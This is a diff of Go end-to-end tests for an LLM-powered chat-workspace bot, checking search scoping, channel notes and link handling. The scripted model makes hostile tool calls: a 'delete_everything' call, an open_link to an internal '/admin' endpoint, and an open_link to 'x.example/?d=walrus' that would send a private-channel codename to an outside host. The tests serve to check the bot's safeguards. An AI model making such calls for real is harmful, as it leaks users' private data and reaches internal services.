@@ -7,18 +7,18 @@ import (
 	"strings"
 	"sync/atomic"
 	"testing"
-	"time"
 
 	"myao/internal/llm/llmtest"
 	"myao/internal/sandbox"
 	"myao/internal/store"
 	"myao/internal/testserver"
+	"myao/test/world"
 )
 
 // awaitFound waits until the search index has a text that a channel's own people may find.
 func (s *system) awaitFound(channel, text string) {
 	s.t.Helper()
-	s.await("the search index to have "+text, 30*time.Second, func() bool {
+	s.await("the search index to have "+text, func() bool {
 		found, err := s.store.Search(s.t.Context(), store.SearchQuery{Team: "T0E2E", Here: channel, Text: text, Limit: 1})
 		return err == nil && len(found) == 1
 	})
@@ -40,18 +40,18 @@ func TestLookingUp(t *testing.T) {
 		return llmtest.Calls(llmtest.ToolCall("search_messages", `{"query":"deploying billing codename"}`), llmtest.ToolCall("search_messages", `{"query":"締め日"}`),
 			llmtest.ToolCall("read_channel", `{"channel":"attic"}`), llmtest.ToolCall("delete_everything", `{}`))
 	}))
-	random := s.workspace.AddChannel(sandbox.Public, "random", s.workspace.Bot().UserID, s.alice.ID, s.bob.ID)
-	attic := s.workspace.AddChannel(sandbox.Private, "attic", s.workspace.Bot().UserID, s.alice.ID)
+	random := s.Workspace.AddChannel(sandbox.Public, "random", s.Workspace.Bot().UserID, s.alice.ID, s.bob.ID)
+	attic := s.Workspace.AddChannel(sandbox.Private, "attic", s.Workspace.Bot().UserID, s.alice.ID)
 	s.runWorkflow("ChannelSync", nil, nil)
-	moved := s.workspace.Say(random, s.bob.ID, "The deployment of billing has moved to Thursday.")
-	s.workspace.Say(random, s.bob.ID, "請求書の締め日は毎月二十日です")
-	s.workspace.Say(attic, s.alice.ID, "deploy billing under the codename walrus")
+	moved := s.Workspace.Say(random, s.bob.ID, "The deployment of billing has moved to Thursday.")
+	s.Workspace.Say(random, s.bob.ID, "請求書の締め日は毎月二十日です")
+	s.Workspace.Say(attic, s.alice.ID, "deploy billing under the codename walrus")
 	s.awaitFound(random, "billing")
 	s.awaitFound(random, "請求書")
 	s.awaitFound(attic, "walrus")
 
-	asked := s.workspace.Say(s.general, s.alice.ID, s.mention("when do we deploy billing, and when is the 締め日?"))
-	s.await("the answer", 30*time.Second, func() bool { return len(s.posts()) == 1 })
+	asked := s.Workspace.Say(s.general, s.alice.ID, s.mention("when do we deploy billing, and when is the 締め日?"))
+	s.await("the answer", func() bool { return len(s.posts()) == 1 })
 	link := fmt.Sprintf("/archives/%s/p%s)", random, strings.ReplaceAll(moved, ".", ""))
 	if p := s.posts()[0]; p.ThreadTS != asked || !strings.Contains(string(p.Blocks), "[[1]](http://") || !strings.Contains(string(p.Blocks), link) || !strings.Contains(string(p.Blocks), "[[2]](") {
 		t.Errorf("posted %s, want links for both numbers", p.Blocks)
@@ -79,11 +79,11 @@ func TestLookingUp(t *testing.T) {
 // A note is in the prompts of its own channel and of no other, until somebody takes it back.
 func TestNotes(t *testing.T) {
 	t.Parallel()
-	s := start(t, sqlite(t), quiet(300), maxWait(600), modelAnswers(llmtest.Script(
+	s := start(t, world.SQLite(t), quiet(300), maxWait(600), modelAnswers(llmtest.Script(
 		llmtest.Calls(llmtest.ToolCall("remember", `{"text":"Lunch is at noon."}`)), llmtest.Text("Noted."))))
-	random := s.workspace.AddChannel(sandbox.Public, "random", s.workspace.Bot().UserID, s.alice.ID, s.bob.ID)
-	s.workspace.Say(s.general, s.alice.ID, s.mention("please remember when lunch is"))
-	s.await("the answer", 30*time.Second, func() bool { return len(s.posts()) == 1 })
+	random := s.Workspace.AddChannel(sandbox.Public, "random", s.Workspace.Bot().UserID, s.alice.ID, s.bob.ID)
+	s.Workspace.Say(s.general, s.alice.ID, s.mention("please remember when lunch is"))
+	s.await("the answer", func() bool { return len(s.posts()) == 1 })
 	const note = "- #1 ("
 	if prompt := s.promptFor(s.general, "what do you know?"); !strings.Contains(prompt, note) || !strings.Contains(prompt, "alice): Lunch is at noon.") {
 		t.Errorf("the note is not in its channel's prompt:\n%s", prompt)
@@ -91,10 +91,10 @@ func TestNotes(t *testing.T) {
 	if prompt := s.promptFor(random, "what do you know?"); strings.Contains(prompt, note) {
 		t.Errorf("the note is in another channel's prompt:\n%s", prompt)
 	}
-	if stdout, stderr, status := s.command("notes", "list", "general"); status != 0 || !strings.Contains(stdout, "Lunch is at noon.") {
+	if stdout, stderr, status := s.Command("notes", "list", "general"); status != 0 || !strings.Contains(stdout, "Lunch is at noon.") {
 		t.Errorf("%d %q %q", status, stdout, stderr)
 	}
-	if stdout, stderr, status := s.command("notes", "forget", "general", "1"); status != 0 || stdout != "note 1 is forgotten\n" {
+	if stdout, stderr, status := s.Command("notes", "forget", "general", "1"); status != 0 || stdout != "note 1 is forgotten\n" {
 		t.Errorf("%d %q %q", status, stdout, stderr)
 	}
 	if prompt := s.promptFor(s.general, "and now?"); strings.Contains(prompt, note) {
@@ -109,14 +109,14 @@ func TestLinksOfTheMachineItself(t *testing.T) {
 	var hits atomic.Int32
 	inside := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hits.Add(1) }))
 	t.Cleanup(inside.Close)
-	s := start(t, sqlite(t), quiet(300), maxWait(600), modelAnswers(func(c llmtest.Call) llmtest.Reply {
+	s := start(t, world.SQLite(t), quiet(300), maxWait(600), modelAnswers(func(c llmtest.Call) llmtest.Reply {
 		if len(c.Turns) > 0 {
 			return llmtest.Text("Neither can be opened.")
 		}
 		return llmtest.Calls(llmtest.ToolCall("open_link", fmt.Sprintf(`{"url":%q}`, inside.URL+"/admin")), llmtest.ToolCall("open_link", `{"url":"https://x.example/?d=walrus"}`))
 	}))
-	s.workspace.Say(s.general, s.alice.ID, s.mention("please read <"+inside.URL+"/admin>"))
-	s.await("the answer", 30*time.Second, func() bool { return len(s.posts()) == 1 })
+	s.Workspace.Say(s.general, s.alice.ID, s.mention("please read <"+inside.URL+"/admin>"))
+	s.await("the answer", func() bool { return len(s.posts()) == 1 })
 	calls := s.replies()
 	if len(calls) != 2 || len(calls[1].Turns) != 1 {
 		t.Fatalf("%d calls of the model, want 2:\n%+v", len(calls), calls)
